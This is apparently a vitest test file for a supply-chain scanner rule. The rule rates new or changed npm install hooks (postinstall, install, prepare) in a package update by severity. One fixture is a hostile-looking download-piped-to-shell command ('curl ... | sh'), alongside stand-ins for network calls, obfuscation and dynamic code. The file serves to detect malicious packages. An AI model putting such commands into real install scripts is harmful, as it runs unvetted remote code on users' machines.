// A script that installing an update runs.
import { describe, expect, test } from 'vitest';
import { fact, text } from '../support/code-facts.ts';
import { judgedDifference, judgeDifference, severitiesOf } from '../support/difference-facts.ts';

const ID = 'install-script-added';
const hook = (command: string, runs: readonly string[] = [], name = 'postinstall') => fact('install-script', { hook: name, command, runs });

test('the packages of its fixtures', async () => {
  expect(await judgedDifference(ID, 'bad')).toMatchObject([{
    severity: 'high', standing: 'new', change: { was: 'no postinstall script', now: 'postinstall: node setup.js' },
    title: 'Installing fixture-update 1.0.1 runs node setup.js (postinstall), which starts another program, which 1.0.0 did not',
    locations: [{ path: 'fixture-update@1.0.1/package.json', line: 5 }, { path: 'fixture-update@1.0.1/setup.js', line: 1 }],
  }]);
  expect(await judgedDifference(ID, 'good')).toEqual([]);
});

describe('a new one', () => {
  test.each([
    ['a plain file', [hook('node a.js', ['a.js'])], 'medium'],
    ['a file that the package does not hold', [hook('node ./lib/a.js')], 'high'],
    ['a script of a shell', [hook('sh ./a.sh')], 'high'],
    ['a download handed to a shell', [hook('curl -s https://vendor.example/a | sh')], 'high'],
    ['a file that connects somewhere', [hook('node a.js', ['a.js']), fact('network', { file: 'a.js', host: 'collect.example', url: 'https://collect.example/', origins: [text('https://collect.example/')] })], 'high'],
    ['a file that makes code', [hook('node a.js', ['a.js']), fact('dynamic-code', { file: 'a.js' })], 'high'],
    ['an obfuscated file', [hook('node a.js', ['a.js']), fact('obfuscation', { file: 'a.js' })], 'high'],
    ['a build', [hook('node-gyp rebuild', [], 'install')], 'medium'],
    ['a build of what is new too', [hook('node-gyp rebuild', [], 'install'), fact('native-code', { form: 'binding-gyp' })], 'low'],
    ['a build with something behind it', [hook('node-gyp rebuild && node ./lib/a.js', [], 'install')], 'high'],
    ['prepare, which a registry\'s copy does not run', [hook('node a.js', ['a.js'], 'prepare')], 'info'],
  ] as const)('%s', async (_what, after, severity) => {
    expect(await severitiesOf(ID, [], after)).toEqual([severity]);
  });

  test('that downloads from the vendor, by the earlier words', async () => {
    const loads = [hook('node a.js', ['a.js']), fact('network', { file: 'a.js', host: 'vendor.example', url: 'https://vendor.example/', origins: [text('https://vendor.example/')] })];
    expect(await severitiesOf(ID, [], loads, { said: ['vendor.example'] })).toEqual(['medium']);
    expect(await severitiesOf(ID, [], loads, { says: ['vendor.example'] })).toEqual(['high']);
  });
});

describe('another one than before', () => {
  test('the same file in other words', async () => {
    expect(await judgeDifference(ID, [hook('node a.js', ['a.js'])], [hook('node ./a.js --quiet', ['a.js'])])).toMatchObject([{ severity: 'low', change: { was: 'postinstall: node a.js', now: 'postinstall: node ./a.js --quiet' } }]);
  });
  test('another file', async () => {
    expect(await severitiesOf(ID, [hook('node a.js', ['a.js'])], [hook('node b.js', ['b.js'])])).toEqual(['medium']);
    expect(await severitiesOf(ID, [hook('node a.js', ['a.js'])], [hook('node b.js', ['b.js']), fact('process', { file: 'b.js', command: 'hostname' })])).toEqual(['high']);
  });
});

test('dependencies that no registry serves are another rule\'s', async () => {
  expect(await severitiesOf(ID, [], [hook('dependencies: a@github:vendor/a', [], 'git-dependency')])).toEqual([]);
});
